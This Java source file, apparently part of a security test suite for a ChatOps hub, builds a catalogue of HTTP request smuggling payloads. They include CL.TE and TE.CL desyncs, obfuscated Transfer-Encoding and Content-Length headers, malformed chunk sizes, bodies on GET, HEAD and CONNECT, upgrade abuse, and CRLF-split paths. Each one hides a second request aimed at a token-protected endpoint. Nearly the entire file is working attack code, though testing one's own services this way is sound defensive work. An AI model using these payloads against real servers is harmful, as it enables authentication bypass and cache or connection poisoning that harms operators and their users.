package io.chatops.attack;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.net.URI;
import java.net.URLEncoder;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * Requests whose end two readers may see differently. Each holds a second request, which only one
 * of them takes for a request.
 */
final class HiddenRequests {
  private static final List<String> CODINGS =
      List.of(
          "Transfer-Encoding: chunked",
          "Transfer-Encoding : chunked",
          "Transfer-Encoding\t: chunked",
          "Transfer-Encoding:\u000bchunked",
          "Transfer-Encoding: chunked\u0000",
          "Transfer-Encoding: xchunked",
          "Transfer-Encoding: \"chunked\"",
          "Transfer-Encoding: chunked;q=1",
          "Transfer-Encoding: chunked, identity",
          "Transfer-Encoding: identity",
          "Transfer-Encoding: gzip",
          "Transfer-Encoding: CHUNKED",
          "Transfer-Encoding:\r\n chunked",
          "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
          "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
          "Transfer_Encoding: chunked",
          "X-One: a\nTransfer-Encoding: chunked",
          "X-One: a\rTransfer-Encoding: chunked",
          "X-One: a\r\n Transfer-Encoding: chunked");

  private final String host;
  private final String hidden;
  private final Map<String, String> requests = new LinkedHashMap<>();

  private HiddenRequests(URI front, String hidden) {
    this.host = "Host: " + front.getAuthority() + "\r\n";
    this.hidden = hidden;
  }

  /**
   * Returns requests by what is odd about them.
   *
   * @param front who reads first: the hub, or a proxy before it
   * @param hidden the request in each of them
   */
  static Map<String, String> in(URI front, String hidden) {
    HiddenRequests all = new HiddenRequests(front, hidden);
    all.lengths();
    all.codings();
    all.chunks();
    all.bodies();
    all.lines();
    return all.requests;
  }

  private void lengths() {
    int length = hidden.length();
    put("two lengths", "Content-Length: 0\r\nContent-Length: " + length + "\r\n", hidden);
    put("two lengths, reversed", "Content-Length: " + length + "\r\nContent-Length: 0\r\n", hidden);
    for (String odd :
        List.of(
            "0, " + length,
            "+" + length,
            "-1",
            "0x0",
            "99999999999999999999",
            "",
            "\u000b" + length,
            "0 " + length,
            "0;" + length)) {
      put("length '" + odd + "'", "Content-Length: " + odd + "\r\n", hidden);
    }
    put("a blank before the colon", "Content-Length : " + length + "\r\n", hidden);
    put("a length with an underscore", "Content_Length: " + length + "\r\n", hidden);
  }

  private void codings() {
    String hex = Integer.toHexString(hidden.length());
    String ended = "0\r\n\r\n" + hidden;
    String chunk = hex + "\r\n" + hidden + "\r\n0\r\n\r\n";
    for (String coding : CODINGS) {
      put("CL.TE, " + coding, coding + "\r\nContent-Length: " + ended.length() + "\r\n", ended);
      put(
          "TE.CL, " + coding,
          "Content-Length: " + (hex.length() + 2) + "\r\n" + coding + "\r\n",
          chunk);
    }
    for (String unknown :
        List.of(
            "xchunked",
            "\"chunked\"",
            "chunked;q=1",
            "chunked, identity",
            "identity",
            "gzip",
            "\u000bchunked",
            "chunked\u0000",
            "")) {
      put("TE alone, " + unknown, "Transfer-Encoding: " + unknown + "\r\n", ended);
    }
    requests.put(
        "HTTP/1.0 with chunks",
        post("Connection: keep-alive\r\nTransfer-Encoding: chunked\r\n").replace("/1.1", "/1.0")
            + ended);
  }

  private void chunks() {
    String hex = Integer.toHexString(hidden.length());
    String end = "\r\n0\r\n\r\n";
    for (String odd :
        List.of(
            "2;\nxx\r\n" + hex + end + hidden,
            "2;a=\"\nxx\r\n" + hex + "\"\r\n0\r\n\r\n" + hidden,
            "1;a=\"\n\"\r\nx\r\n0\r\n\r\n" + hidden,
            "1\r\nxx\r\n0\r\n\r\n" + hidden,
            "1\nx\n0\n\n" + hidden,
            "0x" + hex + "\r\n" + hidden + end,
            "+" + hex + "\r\n" + hidden + end,
            "0 " + hex + "\r\n" + hidden + end,
            "-1\r\n" + hidden + end,
            "\r\n" + hidden + end,
            "ffffffffffffffff\r\n" + hidden + end,
            "10000000000000000\r\n" + hidden + end)) {
      put(
          "chunk " + odd.substring(0, Math.min(12, odd.length())),
          "Transfer-Encoding: chunked\r\n",
          odd);
    }
  }

  /** Bodies where most readers expect none. */
  private void bodies() {
    String length = "Content-Length: " + hidden.length() + "\r\n";
    for (String start :
        List.of(
            "GET /api/v1/servers",
            "GET /assets/none.js",
            "HEAD /api/v1/servers",
            "OPTIONS /api/v1/servers",
            "DELETE /api/v1/servers",
            "TRACE /",
            "CONNECT 127.0.0.1:22",
            "BREW /")) {
      requests.put(
          start + " with a body", start + " HTTP/1.1\r\n" + host + length + "\r\n" + hidden);
    }
    put("a body before it was asked for", "Expect: 100-continue\r\n" + length, hidden);
    put("an expectation", "Expect: x\r\n" + length, hidden);
    for (String protocol : List.of("websocket", "h2c", "TLS/1.0")) {
      requests.put(
          "upgrade to " + protocol + " with a body",
          "GET /api/v1/agents/ws HTTP/1.1\r\n"
              + host
              + upgrade(protocol, 13)
              + length
              + "\r\n"
              + hidden);
    }
  }

  /** Returns the headers of an upgrade. */
  static String upgrade(String protocol, int version) {
    return "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: "
        + protocol
        + "\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
        + "Sec-WebSocket-Version: "
        + version
        + "\r\n";
  }

  /** Another request within a line of the first. */
  private void lines() {
    String encoded =
        URLEncoder.encode(" HTTP/1.1\r\n" + host + "\r\n" + hidden, UTF_8).replace("+", "%20");
    requests.put(
        "a path of two requests", "GET /api/v1/" + encoded + " HTTP/1.1\r\n" + host + "\r\n");
    requests.put(
        "a query of two requests",
        "GET /api/v1/servers?" + encoded + " HTTP/1.1\r\n" + host + "\r\n");
    put("a header of two requests", "X-One: a\n\nContent-Length: 0\r\n", hidden);
    put("a header of two requests, by CR", "X-One: a\r\rContent-Length: 0\r\n", hidden);
  }

  private void put(String name, String headers, String body) {
    requests.put(name, post(headers) + body);
  }

  /** The head of a call that nobody may make without a token. */
  private String post(String headers) {
    return "POST /api/v1/servers HTTP/1.1\r\n"
        + host
        + "Content-Type: application/json\r\n"
        + headers
        + "\r\n";
  }
}
